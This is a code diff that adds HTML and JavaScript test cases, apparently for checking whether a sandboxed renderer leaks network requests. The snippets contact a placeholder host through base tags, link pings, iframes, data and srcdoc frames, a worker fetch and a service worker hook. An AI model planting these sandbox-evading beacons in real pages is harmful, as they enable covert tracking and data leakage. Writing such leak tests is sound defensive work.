@@ -97,6 +97,36 @@ TRICKS = (
         "location-built",
         "<script>location.href = ['http:', '', '@NAMED@', 't25'].join('/')</script>",
     ),
+    Trick(
+        "base-built",
+        "<script>var b = document.createElement('base'); b.href = 'http://' + '@IP@/';"
+        "document.head.appendChild(b);</script><img src='t26.png'><a id='a' href='t26'>x</a>"
+        "<script>document.getElementById('a').click()</script>",
+    ),
+    Trick(
+        "ping",
+        '<a id="a" href="#here" ping="http://@IP@/t27">x</a>'
+        "<script>document.getElementById('a').click()</script>",
+    ),
+    Trick(
+        "nested-frame-navigation",
+        "<script>var f = document.createElement('iframe'); document.body.appendChild(f);"
+        "f.contentWindow.location.href = 'http://' + '@IP@/t28';</script>",
+    ),
+    Trick(
+        "data-frame-navigation",
+        "<iframe src=\"data:text/html,<script>location.href='http://' + '@IP@/t30'</script>\">"
+        "</iframe>",
+    ),
+    Trick(
+        "srcdoc-navigation",
+        "<iframe srcdoc=\"<script>location.href='http://' + '@IP@/t31'</script>\"></iframe>",
+    ),
+    Trick(
+        "worker-fetch",
+        "<script>new Worker(URL.createObjectURL(new Blob(["
+        "\"fetch('http://' + '@IP@/t29').catch(function () {})\"])))</script>",
+    ),
 )
 SERVICE_WORKER = "self.addEventListener('install', function () { fetch('http://@IP@/t17') });"
 
